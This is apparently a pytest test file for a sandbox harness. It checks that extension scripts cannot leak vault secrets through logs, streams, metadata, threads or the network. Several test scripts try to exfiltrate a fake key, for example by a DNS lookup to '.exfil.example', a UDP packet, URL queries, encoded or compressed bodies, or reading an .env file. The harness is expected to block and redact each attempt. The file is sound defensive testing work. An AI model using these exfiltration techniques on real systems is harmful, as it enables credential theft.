"""Every leak path the isolation review found, closed: each test here failed on the harness before.

Through the public surface: ``Runner``, ``ipe run``/``ipe check`` (``harness.cli.main``) and the
pytest fixtures (``pytester``).  Values are obviously fake.
"""

from __future__ import annotations

import base64
import codecs
import dataclasses
import gzip
import json
import logging
import socket
import sys
import threading
import zlib
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import yaml

import harness
import harness.threads
from harness.cli import main
from harness.document import DocumentData, StreamData
from harness.fields import CHANNELS, COVERAGE, RUNTIME_ONLY, walk
from harness.outbound import OutgoingRequest
from harness.result import Change, ExtensionResult, LogEntry, LoggingRecord
from harness.runner import Runner
from harness.taint import CHANNELS as STATIC_CHANNELS
from harness.taint import find_flows
from harness.vault import LocalVault, VaultEntry
from tests.conftest import loopback_server

SECRET = "fake-secret-7d3a9c1e5b"
VAULT = {"api_key": SECRET}
DOC = {"uri": "https://example.com/item"}


def run(make_extension: Any, script: str, document: dict[str, Any] | None = None, **kwargs: Any) -> ExtensionResult:
    folder = make_extension(script, **kwargs)
    return Runner(folder, vault=VAULT).run(document or DOC)


def leak_places(result: ExtensionResult, channel: str | None = None) -> list[str]:
    return [leak.place for leak in result.leaks if channel is None or leak.channel == channel]


def shown(result: ExtensionResult) -> str:
    return json.dumps(result.to_json(), ensure_ascii=False) + result.describe()


def test_utf16_written_around_print_is_masked_and_reported(make_extension, capsys):
    """Bytes of a UTF-16 value written to the child's stderr reach the parent as text with NULs."""
    folder = make_extension("""
        import sys
        sys.__stderr__.write(vault_parameters["api_key"].encode("utf-16-le").decode("latin-1") + "\\n")
        log(vault_parameters["api_key"].encode("utf-16-be").decode("latin-1"))
    """)
    result = Runner(folder, vault=VAULT).run(DOC)
    assert {(leak.channel, leak.alias) for leak in result.leaks} == {("stderr", "utf-16-le"), ("log", "utf-16-be")}
    text = shown(result)
    for codec in ("utf-16-le", "utf-16-be"):
        assert SECRET.encode(codec).decode("latin-1") not in text
    assert "[REDACTED:api_key]" in result.stderr and result.log_texts == ["[REDACTED:api_key]"]


# -- the walker ------------------------------------------------------------------------------------


def test_every_field_of_every_result_class_is_named_by_the_walker_table():
    classes = [ExtensionResult, LogEntry, LoggingRecord, Change, DocumentData, StreamData, OutgoingRequest]
    for cls in classes:
        names = {f.name for f in dataclasses.fields(cls)}
        assert names == set(COVERAGE[cls.__name__]), f"{cls.__name__}: add its new fields to harness.fields"


def _filled(cls: type, counter: list[int]) -> Any:
    """An instance of ``cls`` whose every string (and bytes) field holds a distinct token."""
    def token() -> str:
        counter[0] += 1
        return f"tok{counter[0]:04d}zz"

    nested = {"logs": LogEntry, "logging": LoggingRecord, "changes": Change, "document": DocumentData,
              "data_streams": StreamData, "requests": OutgoingRequest}
    values: dict[str, Any] = {}
    for f in dataclasses.fields(cls):
        kind = str(f.type)
        if f.name in nested:
            item = _filled(nested[f.name], counter)
            values[f.name] = item if f.name == "document" else ([item] if f.name != "data_streams" else (item,))
        elif f.name == "metadata":
            values[f.name] = ((token(), {token(): [token(), {token(): token()}]}),)
        elif f.name == "permissions":
            values[f.name] = ({token(): [{token(): token()}]},)
        elif f.name in ("headers", "parameters"):
            values[f.name] = {token(): token()}
        elif f.name in ("before", "after", "warnings"):
            values[f.name] = [token()]
        elif f.name == "leaks":
            values[f.name] = []
        elif kind in ("str",):
            values[f.name] = token()
        elif kind == "bytes":
            values[f.name] = token().encode()
        elif kind == "float":
            values[f.name] = 1.5
    return cls(**values)


def test_the_walker_yields_every_string_a_result_holds():
    result = _filled(ExtensionResult, [0])
    result.status = "SUCCESS"
    everything = json.dumps(dataclasses.asdict(result), default=lambda b: b.decode())
    tokens = set(__import__("re").findall(r"tok\d{4}zz", everything))
    walked = " ".join(f.value.decode() if isinstance(f.value, bytes) else f.value for f in walk(result))
    not_output = {str(v) for v in result.document.parameters.items() for v in v} | {result.requests[0].via}
    missing = {t for t in tokens - not_output if t not in walked}
    assert not missing, f"fields the walker does not yield: {missing}"
    assert tokens - not_output  # the instance really was filled


def test_every_walked_channel_is_known_and_every_static_channel_has_a_sink():
    result = _filled(ExtensionResult, [0])
    assert {f.channel for f in walk(result)} <= set(CHANNELS)
    assert set(STATIC_CHANNELS) == set(CHANNELS) - set(RUNTIME_ONLY)
    sinks = {
        "log": "log(s)", "stdout": "print(s)", "stderr": "import sys\nprint(s, file=sys.stderr)",
        "logging": "import logging\nlogging.getLogger(s)", "exception": "raise ValueError(s)",
        "reason": "document.reject(s)", "metadata": "document.add_meta_data({'a': s})",
        "data_stream": "document.DataStream(s)", "permissions": "document.Permission(s, 'User', 'p')",
        "url": "import requests\nrequests.get('https://x.example/' + s)",
        "plain_http": "import requests\nrequests.post('http://x.example/', data=s)",
        "socket": "import socket\nsocket.gethostbyname(s)", "file": "open('f', 'w').write(s)",
    }
    assert set(sinks) == set(STATIC_CHANNELS), "a channel without a static sink: teach harness.taint about it"
    for channel, code in sinks.items():
        flows = find_flows("s = vault_parameters['k']\n" + code).flows
        assert channel in {flow.channel for flow in flows}, channel


# -- names the script chooses ----------------------------------------------------------------------


def test_a_secret_as_a_metadata_name_is_masked_and_reported(make_extension):
    result = run(make_extension, 'document.add_meta_data({"x_" + vault_parameters["api_key"]: "v"})')
    assert SECRET not in shown(result)
    assert "metadata name" in leak_places(result, "metadata")


def test_a_secret_as_a_data_stream_name_is_masked_and_reported(make_extension):
    result = run(make_extension, """
        stream = document.DataStream("s_" + vault_parameters["api_key"])
        stream.write("hello")
        document.add_data_stream(stream)
    """)
    assert result.status == "SUCCESS"
    assert SECRET not in shown(result)
    assert "data stream name" in leak_places(result, "data_stream")


def test_a_secret_as_a_logger_name_is_masked_and_reported(make_extension):
    result = run(make_extension, """
        import logging
        logging.getLogger("client." + vault_parameters["api_key"]).warning("hello")
    """)
    assert result.logging and SECRET not in result.logging[0].logger
    assert SECRET not in shown(result)
    assert "logging record 1 logger name" in leak_places(result, "logging")


@pytest.fixture
def level_45() -> Any:
    yield 45
    logging._levelToName.pop(45, None)  # the script's addLevelName is process-wide
    logging._nameToLevel = {k: v for k, v in logging._nameToLevel.items() if v != 45}


def test_a_secret_as_a_level_name_is_masked_and_reported(make_extension, level_45):
    result = run(make_extension, f"""
        import logging
        logging.addLevelName({level_45}, "LVL" + vault_parameters["api_key"])
        logging.getLogger("x").log({level_45}, "hello")
    """)
    assert result.logging and SECRET not in result.logging[0].level
    assert "logging record 1 level name" in leak_places(result, "logging")


def test_a_secret_in_the_document_uri_is_masked_and_reported(make_extension):
    result = run(make_extension, "pass", {"uri": f"https://example.com/item?token={SECRET}"})
    assert SECRET not in json.dumps(result.to_json())
    assert result.to_json()["document"]["id"] == "https://example.com/item?token=[REDACTED:api_key]"
    assert leak_places(result, "document_uri") == ["document URI"]


QUIET = """
class Quiet(str):
    def __repr__(self):
        return "'nothing to see'"
    def __str__(self):
        return self
"""


def test_a_str_subclass_hiding_its_repr_hides_nothing_in_metadata(make_extension):
    result = run(make_extension, QUIET + 'document.add_meta_data({"x": Quiet(vault_parameters["api_key"])})')
    assert SECRET not in shown(result)
    assert result.metadata("x") == ["[REDACTED:api_key]"]
    assert "metadata x[0]" in leak_places(result, "metadata")


def test_a_str_subclass_hiding_its_repr_hides_nothing_in_a_log(make_extension):
    result = run(make_extension, QUIET + 'log(Quiet("key " + vault_parameters["api_key"]))')
    assert SECRET not in shown(result)
    assert leak_places(result, "log") == ["log entry 1"]


# -- encoded and compressed streams ----------------------------------------------------------------


def test_an_alias_inside_a_utf16_stream_is_found_and_the_stream_stays_utf16(make_extension):
    result = run(make_extension, """
        import base64
        token = base64.b64encode(vault_parameters["api_key"].encode()).decode()
        stream = document.DataStream("body_text")  # UTF-16LE, as Coveo stores it
        stream.write("Authorization: Basic " + token + " and " + vault_parameters["api_key"])
        document.add_data_stream(stream)
    """)
    assert result.status == "SUCCESS"
    families = {leak.alias for leak in result.leaks if leak.channel == "data_stream"}
    assert {"utf-16-le(base64)", "utf-16-le(plain)"} <= families
    text = result.stream("body_text").decode("utf-16-le")  # strict: still valid UTF-16
    assert text.startswith("Authorization: Basic [REDACTED:api_key]")  # a base64 edge may stay visible
    assert text.endswith(" and [REDACTED:api_key]")


@pytest.mark.parametrize("codec", ["utf-16-be", "utf-16"])
def test_big_endian_and_bom_utf16_streams_stay_valid(make_extension, codec):
    result = run(make_extension, f"""
        import urllib.parse
        stream = document.DataStream("documentdata")
        stream.write(("q=" + urllib.parse.quote(vault_parameters["api_key"] + "/x", safe="")).encode("{codec}"))
        document.add_data_stream(stream)
    """)
    content = result.stream("documentdata")
    assert "[REDACTED:api_key]" in content.decode(codec)
    assert content.startswith(codecs.BOM_UTF16_LE) == (codec == "utf-16" and sys.byteorder == "little")
    assert result.leaks


@pytest.mark.parametrize("compress,inflate", [(gzip.compress, gzip.decompress),
                                              (zlib.compress, zlib.decompress)])
def test_an_alias_inside_compressed_stream_content_is_found_and_masked(make_extension, compress, inflate):
    folder = make_extension(f"""
        import json, {compress.__module__}
        body = json.dumps({{"auth": vault_parameters["api_key"]}}).encode()
        stream = document.DataStream("documentdata")
        stream.write({compress.__module__}.compress(body))
        document.add_data_stream(stream)
    """)
    result = Runner(folder, vault=VAULT).run(DOC)
    assert result.leaks and all(leak.alias.startswith(("gzip(", "zlib(")) for leak in result.leaks)
    assert inflate(result.stream("documentdata")) == b'{"auth": "[REDACTED:api_key]"}'


# -- threads and the network -----------------------------------------------------------------------


class _Recorder(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        type(self).paths.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def recorder() -> Any:
    paths: list[str] = []
    with loopback_server(type("Handler", (_Recorder,), {"paths": paths})) as url:
        yield url, paths


def check_json(capsys: Any, folder: Path) -> tuple[int, dict[str, Any]]:
    code = main(["check", str(folder), "--json"])
    return code, json.loads(capsys.readouterr().out)[0]


def test_ipe_check_sees_requests_from_a_thread_pool_and_a_thread(make_extension, recorder, capsys):
    url, paths = recorder
    folder = make_extension(f"""
        import threading, urllib.request, requests
        from concurrent.futures import ThreadPoolExecutor
        key = vault_parameters["api_key"]
        with ThreadPoolExecutor(2) as pool:
            pool.submit(requests.get, "https://api.example.com/items?key=" + key).result()
        def call():
            try:
                urllib.request.urlopen("{url}/urllib?key=" + key, timeout=5)
            except OSError:
                pass
        worker = threading.Thread(target=call)
        worker.start()
        worker.join()
    """, documents={"a.json": DOC})
    code, report = check_json(capsys, folder)
    assert code == 3 and not report["clean"]
    leaks = report["documents"][0]["leaks"]
    places = [leak["place"] for leak in leaks if leak["channel"] == "url"]
    assert any("https://api.example.com/items" in place for place in places)
    assert any("/urllib" in place for place in places)
    assert paths == []  # the guard held in the thread: nothing reached the loopback server


def test_ipe_check_sees_a_udp_packet_to_a_loopback_port(make_extension, capsys):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        port = server.getsockname()[1]
        folder = make_extension(f"""
            import socket
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                sock.sendto(vault_parameters["api_key"].encode(), ("127.0.0.1", {port}))
            except OSError:
                pass
        """, documents={"a.json": DOC})
        code, report = check_json(capsys, folder)
        with pytest.raises(BlockingIOError):
            server.recv(100)  # refused before it left
    assert code == 3
    leaks = report["documents"][0]["leaks"]
    assert [leak["channel"] for leak in leaks] == ["socket"]
    assert f"udp://127.0.0.1:{port}" in leaks[0]["place"]
    assert any(flow["channel"] == "socket" for flow in report["static"])


def test_ipe_check_refuses_and_reports_a_dns_lookup_carrying_a_value(make_extension, capsys):
    folder = make_extension("""
        import socket
        for lookup in (socket.gethostbyname, socket.gethostbyname_ex):
            try:
                lookup(vault_parameters["api_key"] + ".exfil.example")
            except OSError as error:
                log(type(error).__name__)
    """, documents={"a.json": DOC})
    code, report = check_json(capsys, folder)
    assert code == 3
    channels = {leak["channel"] for leak in report["documents"][0]["leaks"]}
    assert "socket" in channels


def test_a_thread_that_outlives_its_run_prints_and_logs_redacted(make_extension, capsys):
    folder = make_extension("""
        import logging, sys, threading
        go = threading.Event()
        sys.ipe_test_go = go
        def later():
            go.wait(30)
            print("late", vault_parameters["api_key"])
            log("late " + vault_parameters["api_key"])
            logging.getLogger("late").error("late %s", vault_parameters["api_key"])
        threading.Thread(target=later, name="ipe-test-late", daemon=True).start()
    """)
    result = Runner(folder, vault=VAULT, isolated=False).run(DOC)  # the in-process (pytest) mode
    logs = list(result.logs)
    sys.ipe_test_go.set()  # type: ignore[attr-defined]
    for thread in threading.enumerate():
        if thread.name == "ipe-test-late":
            thread.join(30)
    del sys.ipe_test_go  # type: ignore[attr-defined]
    captured = capsys.readouterr()
    assert "late [REDACTED:api_key]" in captured.out
    assert SECRET not in captured.out + captured.err
    assert result.logs == logs  # the late log() did not slip into a result already returned
    assert not isinstance(sys.stdout, harness.threads.RedactingWriter)  # taken off once the thread ended


def test_pytest_fixture_runs_see_and_block_requests_from_threads(pytester):
    ext = pytester.mkdir("ext")
    (ext / "extension.py").write_text(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "import urllib.request\n"
        "def call():\n"
        "    try:\n"
        "        urllib.request.urlopen('http://api.fake.invalid/x?k=' + vault_parameters['api_key'], timeout=5)\n"
        "    except OSError as error:\n"
        "        log(str(error))\n"
        "with ThreadPoolExecutor(1) as pool:\n"
        "    pool.submit(call).result()\n"
    )
    (ext / "extension.json").write_text('{"name": "ext"}')
    pytester.makepyfile(f"""
        def test_thread(ipe):
            result = ipe.run({str(ext)!r}, {{"uri": "https://example.com/a"}})
            assert "ipe-harness blocked a connection to api.fake.invalid" in result.log_texts[0]
            assert [r.via for r in result.requests] == ["http.client", "dns"]
    """)
    outcome = pytester.runpytest("-p", "no:cacheprovider")
    outcome.assert_outcomes(failed=1)  # the leak rule: a canary went out in a URL, from a thread
    assert "api_key: url (plain) at query of request 1" in outcome.stdout.str()


# -- the vault, parameters, settings ---------------------------------------------------------------


def test_a_runner_never_keeps_an_old_redactor_after_the_vault_changed(make_extension):
    folder = make_extension('print(vault_parameters["api_key"])')
    vault = LocalVault([VaultEntry("api_key", SECRET, "test")], {})
    runner = Runner(folder, vault=vault)
    assert "[REDACTED:api_key]" in runner.run(DOC).stdout
    vault.entries[0] = VaultEntry("api_key", "fake-rotated-value-42", "test")  # same list, same length
    assert runner.run(DOC).stdout == "[REDACTED:api_key]\n"
    before = vault.version
    vault.settings["COVEO_API_KEY"] = "fake-coveo-key-1234"
    assert vault.version > before


def test_parameters_become_text_one_way_everywhere(make_extension, tmp_path):
    folder = make_extension("import json\nlog(json.dumps(parameters, sort_keys=True))",
                            manifest={"parameters": {"m_flag": True, "m_none": None, "m_num": 1.0, "m_big": 1e20}})
    document = {"uri": "https://example.com/a", "parameters": {"d_flag": True, "d_num": 2.50, "d_none": None}}
    result = Runner(folder, vault={}, parameters={"r_flag": True, "r_none": None, "r_num": 3.0}).run(document)
    seen = json.loads(result.log_texts[0])
    assert seen == {"m_flag": "true", "m_none": "", "m_num": "1.0", "m_big": "1e+20",
                    "d_flag": "true", "d_num": "2.5", "d_none": "",
                    "r_flag": "true", "r_none": "", "r_num": "3.0"}
    vault = harness.load_vault(vault_file=_vault_file(tmp_path, True))
    assert vault.values_for(None) == {"flag": "true"}


def _vault_file(tmp_path: Path, value: Any) -> Path:
    path = tmp_path / "vault.json"
    path.write_text(json.dumps([{"key": "flag", "value": value}]))
    return path


def test_coveo_settings_are_redacted_like_vault_values_and_never_injected(make_extension, monkeypatch, tmp_path):
    (tmp_path / ".env").write_text(
        "COVEO_API_KEY=fake-coveo-api-key-9f8e7d\nCOVEO_ORGANIZATION_ID=fakeorg12345\n"
        "COVEO_PROXY_TOKEN=fake-proxy-token-5150\n"
    )
    monkeypatch.setenv("COVEO_PLATFORM_URL", "https://platform.fake.example")
    folder = make_extension("""
        import os
        log(repr(sorted(vault_parameters)))
        log(open(".env").read())
        print(os.environ["COVEO_PLATFORM_URL"])
    """)
    result = Runner(folder).run(DOC)
    assert result.log_texts[0] == "[]"
    text = shown(result)
    assert "fake-coveo-api-key-9f8e7d" not in text and "fake-proxy-token-5150" not in text
    # the organization id and the platform URL name things, they unlock nothing: not masked
    assert "fakeorg12345" in text and "platform.fake.example" in text
    assert {leak.key for leak in result.leaks} == {"COVEO_API_KEY", "COVEO_PROXY_TOKEN"}


# -- cassettes ---------------------------------------------------------------------------------------


class _Sink(BaseHTTPRequestHandler):
    def do_POST(self) -> None:  # noqa: N802 - http.server's naming
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.mark.parametrize("encode,decode", [
    ("gzip.compress(body)", gzip.decompress),
    ("body.decode().encode('utf-16-le')", lambda data: data.decode("utf-16-le").encode()),
])
def test_record_writes_no_value_even_in_a_gzip_or_utf16_request_body(make_extension, monkeypatch, capsys,
                                                                      encode, decode):
    with loopback_server(_Sink) as url:
        folder = make_extension(f"""
            import base64, gzip, requests
            token = vault_parameters["api_key"]
            body = ("basic=" + base64.b64encode(("user:" + token).encode()).decode() + "&raw=" + token).encode()
            requests.post("{url}/upload", data={encode}, headers={{"Content-Encoding": "gzip"}})
        """, documents={"a.json": DOC})
        monkeypatch.setenv("VAULT_api_key", SECRET)
        assert main(["run", str(folder), "--record", "--json"]) == 0
    capsys.readouterr()
    cassette = yaml.safe_load((folder / "cassettes" / "a.yaml").read_text())
    body = cassette["interactions"][0]["request"]["body"]
    sent = decode(body if isinstance(body, bytes) else body.encode("latin-1"))
    assert SECRET.encode() not in sent
    assert base64.b64encode(f"user:{SECRET}".encode())[8:20] not in sent
    assert b"{{ VAULT.api_key }}" in sent
